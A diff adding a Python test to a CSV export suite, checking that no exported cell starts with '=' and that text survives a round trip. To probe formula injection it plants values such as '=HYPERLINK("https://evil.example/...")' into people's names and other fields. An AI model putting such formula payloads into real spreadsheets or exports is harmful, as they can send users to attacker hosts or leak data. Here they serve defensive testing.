@@ -121,6 +121,36 @@ def test_projects_of_one_name_get_two_files() -> None:
     assert sorted(project.row["name"] for project in again.projects.values()) == ["2 my_project", "my_project"]
 
 
+def test_no_cell_is_a_formula_and_every_text_comes_back_as_it_was() -> None:
+    world = small_world()
+    project = world.projects[99]
+    for person_id, person in world.people.items():
+        person["name"] = f'=HYPERLINK("https://evil.example/{person_id}")'
+    project.review_types[5]["name"] = "=Code"
+    label = edits.create_label(world, project, 1, name="=a label")
+    epic = edits.create_epic(world, project, 1, name="=an epic")
+    edits.create_comment(world, project, 1, epic_id=epic["id"], text="=said")
+    story = edits.create_story(
+        world, project, 2, name="=1+1", description="=2", current_state="started", owner_ids=[1, 2], tasks=["=3"],
+        label_ids=[label["id"]],
+    )  # fmt: skip
+    edits.create_blocker(world, project, 1, story["id"], description="=4")
+    story["branches"] = [{"id": 1, "kind": "branch", "story_id": story["id"], "name": "=5"}]
+    story["reviews"] = [{"id": 2, "kind": "review", "review_type_id": 5, "reviewer_id": 1, "status": "pass"}]
+    with zipfile.ZipFile(io.BytesIO(written(world))) as archive:
+        for name in archive.namelist():
+            rows = csv.reader(io.StringIO(archive.read(name).decode(), newline=""))
+            assert [cell for row in rows for cell in row if cell.startswith("=")] == []
+    again, report = read_again(world)
+    assert report.findings == []
+    assert expected_export(again) == expected_export(world)
+    (project_again,) = again.projects.values()
+    assert {row["name"] for row in again.people.values()} >= {row["name"] for row in world.people.values()}
+    before = {(row["message"], row["performed_by"]["name"], row["kind"]) for row in project.activity}
+    found = {(row["message"], row["performed_by"]["name"], row["kind"]) for row in project_again.activity}
+    assert found == before
+
+
 ANY_TEXT = st.text(st.characters(blacklist_categories=["Cs"], blacklist_characters="\0"), min_size=1, max_size=40)
 NASTY = st.sampled_from(
     [
